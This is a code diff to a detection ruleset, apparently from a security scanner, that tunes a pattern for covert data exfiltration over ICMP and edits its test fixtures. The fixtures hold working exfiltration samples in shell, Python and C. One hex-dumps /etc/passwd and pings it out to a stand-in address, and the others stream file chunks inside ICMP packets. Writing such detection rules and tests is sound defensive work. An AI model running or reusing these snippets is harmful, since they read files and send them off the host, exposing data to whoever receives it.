@@ -519,8 +519,8 @@ export const covertExfiltration: RuleSet = {
           near(
             6,
             is(['icmp('], /ICMP\([^\n]{0,40}\)\s*\/\s*(?:Raw\(\s*(?:load\s*=\s*)?)?\w/),
-            is(['.read('], null),
-            is(['send(', 'sr1('], null),
+            'read',
+            is(['send(ip(', 'sr1(ip('], null),
           ),
         ),
         inside(
@@ -537,7 +537,7 @@ export const covertExfiltration: RuleSet = {
       matches: [
         sh('xxd -p -c 16 /etc/passwd | while read -r line; do\n  ping -c 1 -p "$line" 192.0.2.1\ndone'),
         py(
-          'while piece := source.read(56):\n    send(IP(dst="192.0.2.1") / ICMP(type=8) / Raw(load=piece), verbose=False)',
+          'source = open(path, "rb")\nwhile piece := source.read(56):\n    send(IP(dst="192.0.2.1") / ICMP(type=8) / Raw(load=piece), verbose=False)',
         ),
         c(
           'struct { struct icmphdr h; char data[48]; } packet = { .h = { .type = ICMP_ECHO } };\nint s = socket(AF_INET, SOCK_RAW, IPPROTO_ICMP);\nwhile (fread(packet.data, 1, 48, f) > 0)\n    sendto(s, &packet, sizeof packet, 0, to, sizeof *to);',
